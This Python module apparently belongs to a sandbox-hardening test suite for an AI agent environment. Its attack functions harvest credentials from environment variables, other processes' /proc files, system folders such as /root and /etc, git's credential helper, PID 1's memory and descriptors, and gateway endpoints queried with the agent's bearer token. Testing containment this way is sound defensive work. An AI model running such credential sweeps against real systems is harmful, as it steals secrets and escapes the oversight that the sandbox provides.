"""Attacks on what must not be in the sandbox: credentials."""
import glob
import os
import re
import subprocess

from frame import Refused, agent_token, attack, exchange, first_form, judged

FILE_BYTES_MAX = 4 << 20
FOLDERS = ["/workspace", "/home", "/root", "/tmp", "/opt", "/etc", "/run", "/var", "/dev/shm", "/srv", "/mnt"]


def look(parameters, where, data):
    found = first_form(parameters, data)
    return "%s... in %s" % (found, where) if found else None


@attack("cred-env")
def environment(parameters):
    text = "\n".join("%s=%s" % pair for pair in os.environ.items()).encode()
    found = look(parameters, "the environment", text)
    if found:
        return found
    raise Refused("%d variables" % len(os.environ))


@attack("cred-proc")
def processes(parameters):
    looked = refused = 0
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        if path.split("/")[2] == str(os.getpid()):
            continue
        try:
            with open(path, "rb") as file:
                found = look(parameters, path, file.read(FILE_BYTES_MAX))
            looked += 1
        except OSError:
            refused += 1
            continue
        if found:
            return found
    raise Refused("%d files read, %d closed" % (looked, refused))


@attack("cred-files")
def files(parameters):
    looked = 0
    for folder in FOLDERS:
        for base, folders, names in os.walk(folder):
            folders[:] = [name for name in folders if name not in ("node_modules", "python3", "perl")]
            for name in names:
                path = os.path.join(base, name)
                try:
                    if not os.path.isfile(path) or os.path.getsize(path) > FILE_BYTES_MAX:
                        continue
                    with open(path, "rb") as file:
                        found = look(parameters, path, file.read())
                    looked += 1
                except OSError:
                    continue
                if found:
                    return found
    raise Refused("%d files" % looked)


@attack("cred-git")
def git_configuration(parameters):
    text = b""
    for line in (
        ["config", "--list", "--show-origin"],
        ["remote", "--verbose"],
        ["reflog", "--all"],
        ["credential", "fill"],
    ):
        question = b"protocol=https\nhost=github.com\n\n" if line[0] == "credential" else b""
        text += subprocess.run(["git"] + line, input=question, capture_output=True, timeout=20).stdout
    found = look(parameters, "git's configuration", text)
    if found:
        return found
    raise Refused("%d bytes" % len(text))


@attack("cred-pid1-environ")
def environ_of_pid_1(parameters):
    with open("/proc/%d/environ" % parameters.get("victim", 1), "rb") as file:
        return "%d bytes" % len(file.read())


@attack("cred-pid1-mem")
def memory_of_pid_1(parameters):
    pid = parameters.get("victim", 1)
    with open("/proc/%d/maps" % pid) as maps:
        for line in maps:
            area = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
            if area:
                with open("/proc/%d/mem" % pid, "rb", 0) as memory:
                    memory.seek(int(area.group(1), 16))
                    return "%d bytes" % len(memory.read(64))
    raise Refused("no map")


@attack("cred-pid1-fd")
def descriptors_of_pid_1(parameters):
    return " ".join(os.listdir("/proc/%d/fd" % parameters.get("victim", 1)))


@attack("cred-gateway-answers")
def answers_of_the_gateway(parameters):
    token = agent_token(parameters)
    text = b""
    for line in ("GET / ", "GET /healthz ", "GET /metrics ", "GET /v1/step ", "GET /llm/ ", "POST /llm/v1/messages "):
        request = "%sHTTP/1.1\r\nHost: gateway\r\nAuthorization: Bearer %s\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        answer = exchange(parameters, (request % (line, token)).encode())
        judged(parameters, line, answer)
        text += answer
    found = look(parameters, "an answer of the gateway", text)
    if found:
        return found
    raise Refused("%d bytes of answers" % len(text))
